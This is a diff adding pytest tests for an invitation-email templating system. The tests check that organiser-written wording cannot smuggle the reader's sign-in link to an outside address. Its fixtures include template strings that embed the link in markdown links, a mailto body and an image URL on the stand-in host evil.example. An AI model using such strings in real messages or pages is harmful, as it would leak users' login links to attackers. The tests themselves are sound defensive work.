@@ -215,5 +215,31 @@ def test_our_own_words_hold_only_what_they_understand(words: Any) -> None:
     assert unknown(words.subject + words.text, words.placeholders) == []
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[Open](https://evil.example/?t={link})",
+        "https://evil.example/?{link}",
+        "[x](mailto:a@evil.example?body={link})",
+        "[Open](https://evil.example/?({link}))",
+        "[Open][x]\n\n[x]: https://evil.example/?q={link}",
+        "![](https://evil.example/*{link})",
+        "{link}{link}",
+    ],
+)
+def test_no_other_address_is_told_what_signs_its_reader_in(text: str) -> None:
+    """The link of an invitation gives its reader's rights in all events, and organisers of one word it."""
+    assert unknown(text, {"link": ""}) == ["link"]
+    sent = message(letter(text), LINK, HOUSE).as_string()
+    assert f"{LINK}%3E" not in sent.replace("=\n", "")
+    assert not re.search(rf"evil\.example[^\s\"]*{re.escape(LINK)}", sent.replace("=\n", "").replace("=3D", "="))
+
+
+@pytest.mark.parametrize("text", ["{link}", "Here: {link}", "[Open it]({link}).", "([here]({link}))", "See *{link}*"])
+def test_the_link_stands_by_itself_or_behind_words(text: str) -> None:
+    assert unknown(text, {"link": ""}) == []
+    assert LINK in message(letter(text), LINK, HOUSE).as_string().replace("=\n", "")
+
+
 def test_every_kind_has_words() -> None:
     assert set(wordings()) == set(Kind)
